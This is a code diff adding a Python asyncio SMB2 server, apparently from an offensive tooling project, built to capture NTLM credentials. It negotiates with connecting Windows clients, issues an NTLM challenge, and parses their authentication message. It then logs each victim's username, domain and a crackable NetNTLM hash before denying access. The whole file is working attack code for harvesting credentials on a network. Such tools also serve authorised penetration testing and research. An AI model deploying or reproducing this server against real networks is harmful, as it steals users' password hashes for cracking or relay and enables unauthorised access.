@@ -0,0 +1,156 @@
+import os
+import asyncio
+import logging
+import itertools
+from typing import Callable, Dict, Optional
+
+from src.utils.ntlm import (NTLM_AUTHENTICATE, NTLM_NEGOTIATE, build_challenge_message,
+                            format_hash, hash_type, message_type, parse_authenticate_message)
+from src.utils.smb2 import (NETBIOS_POSITIVE_RESPONSE, NETBIOS_SESSION_MESSAGE, NETBIOS_SESSION_REQUEST,
+                            SMB1_COM_NEGOTIATE, SMB1_MAGIC, SMB2_DIALECT_202, SMB2_MAGIC,
+                            SMB2_NEGOTIATE, SMB2_SESSION_SETUP, SMB2Header, SMB2ResponseTemplates,
+                            choose_dialect, negotiate_request_dialects, patch_ids,
+                            session_setup_request_token, smb1_negotiate_dialects)
+from src.utils.framing import BufferPool, FramedConnection, start_framed_server
+from src.utils.spnego import is_spnego, unwrap_ntlmssp
+
+class SMB2CaptureServer:
+    """
+    asyncio SMB2 server capturing NTLM credentials.
+
+    Requests are framed by their NetBIOS length on pooled receive buffers
+    (FramedConnection). NEGOTIATE and SESSION_SETUP
+    are answered from SMB2ResponseTemplates; the Type 3 sent in the second
+    SESSION_SETUP is parsed on the same connection, handed to on_credential on
+    the default executor and answered with STATUS_ACCESS_DENIED.
+    """
+
+    def __init__(self, host: str, port: int,
+                 on_credential: Optional[Callable[[Dict], None]] = None,
+                 computer_name: str = 'SERVER', domain_name: str = 'WORKGROUP',
+                 server_challenge: bytes = None, idle_timeout: float = 30.0,
+                 backlog: int = 1024):
+        self.logger = logging.getLogger(__name__)
+        self.host = host
+        self.port = port
+        self.on_credential = on_credential
+        self.server_challenge = server_challenge
+        self.idle_timeout = idle_timeout
+        self.backlog = backlog
+        self.templates = SMB2ResponseTemplates(
+            build_challenge_message(server_challenge or b'\x00' * 8, computer_name, domain_name))
+        self.session_ids = itertools.count(0x0000040000000001)
+        self.buffer_pool = BufferPool()
+        self.server: Optional[asyncio.AbstractServer] = None
+        self.connections = 0
+        self.handshakes = 0
+
+    async def start(self):
+        """Start listening"""
+        self.server = await start_framed_server(self._handle_client, self.host, self.port,
+                                                backlog=self.backlog, buffer_pool=self.buffer_pool)
+        self.port = self.server.sockets[0].getsockname()[1]
+        self.logger.info(f"SMB2 capture server listening on {self.host}:{self.port}")
+
+    async def stop(self):
+        """Stop listening"""
+        if self.server:
+            self.server.close()
+            await self.server.wait_closed()
+            self.server = None
+
+    async def _handle_client(self, connection: FramedConnection):
+        client_address = connection.get_extra_info('peername')
+        self.connections += 1
+        session_id = next(self.session_ids)
+        server_challenge = None
+        challenge_frame = None
+        try:
+            while True:
+                kind, message = await asyncio.wait_for(connection.read_frame(), self.idle_timeout)
+                if kind == NETBIOS_SESSION_REQUEST:
+                    connection.write(bytes([NETBIOS_POSITIVE_RESPONSE, 0, 0, 0]))
+                    continue
+                if kind != NETBIOS_SESSION_MESSAGE or len(message) < 4:
+                    break
+
+                if message[:4] == SMB1_MAGIC:
+                    if message[4] != SMB1_COM_NEGOTIATE:
+                        break
+                    # Multi-protocol negotiate: upgrade the client to SMB2
+                    dialects = smb1_negotiate_dialects(message)
+                    if b'SMB 2.???' in dialects:
+                        connection.write(patch_ids(bytearray(self.templates.wildcard_negotiate), 0))
+                    elif b'SMB 2.002' in dialects:
+                        connection.write(patch_ids(self.templates.negotiate_for(SMB2_DIALECT_202), 0))
+                    else:
+                        self.logger.debug(f"SMB1-only client {client_address[0]}, closing")
+                        break
+                    await connection.drain()
+                    continue
+
+                if message[:4] != SMB2_MAGIC:
+                    break
+                header = SMB2Header(message)
+
+                if header.command == SMB2_NEGOTIATE:
+                    dialect = choose_dialect(negotiate_request_dialects(message))
+                    if dialect is None:
+                        self.logger.debug(f"No common SMB2 dialect with {client_address[0]}")
+                        break
+                    connection.write(patch_ids(self.templates.negotiate_for(dialect), header.message_id))
+
+                elif header.command == SMB2_SESSION_SETUP:
+                    token = session_setup_request_token(message)
+                    ntlm = unwrap_ntlmssp(token)
+                    kind = message_type(ntlm) if ntlm is not None else None
+                    if kind == NTLM_NEGOTIATE:
+                        if challenge_frame is None:
+                            template = (self.templates.spnego_challenge if is_spnego(token)
+                                        else self.templates.raw_challenge)
+                            offset = (self.templates.spnego_challenge_offset if is_spnego(token)
+                                      else self.templates.raw_challenge_offset)
+                            challenge_frame = bytearray(template)
+                            server_challenge = self.server_challenge or os.urandom(8)
+                            challenge_frame[offset:offset + 8] = server_challenge
+                        connection.write(patch_ids(challenge_frame, header.message_id, session_id))
+                    elif kind == NTLM_AUTHENTICATE and server_challenge:
+                        self._emit_credential(client_address, ntlm, server_challenge)
+                        connection.write(patch_ids(bytearray(self.templates.access_denied),
+                                               header.message_id, session_id))
+                        await connection.drain()
+                        break
+                    else:
+                        break
+                else:
+                    self.logger.debug(f"Unexpected SMB2 command {header.command} from {client_address[0]}")
+                    break
+                await connection.drain()
+        except (asyncio.IncompleteReadError, asyncio.TimeoutError, ConnectionError):
+            pass
+        except Exception as e:
+            self.logger.error(f"Error in SMB handler for {client_address[0]}: {e}")
+        finally:
+            connection.close()
+
+    def _emit_credential(self, client_address, ntlm, server_challenge: bytes):
+        try:
+            auth = parse_authenticate_message(ntlm)
+        except Exception as e:
+            self.logger.warning(f"Malformed NTLM Type 3 from {client_address[0]}: {e}")
+            return
+        self.handshakes += 1
+        event = {
+            'protocol': 'SMB',
+            'source': client_address[0],
+            'username': auth['username'],
+            'domain': auth['domain'],
+            'workstation': auth['workstation'],
+            'hash_type': hash_type(auth),
+            'server_challenge': server_challenge.hex(),
+            'ntlm_hash': format_hash(auth, server_challenge),
+        }
+        self.logger.info(f"Captured SMB NTLM auth from {client_address[0]}: "
+                         f"{event['domain']}\\{event['username']} ({event['hash_type']})")
+        if self.on_credential:
+            asyncio.get_running_loop().run_in_executor(None, self.on_credential, event)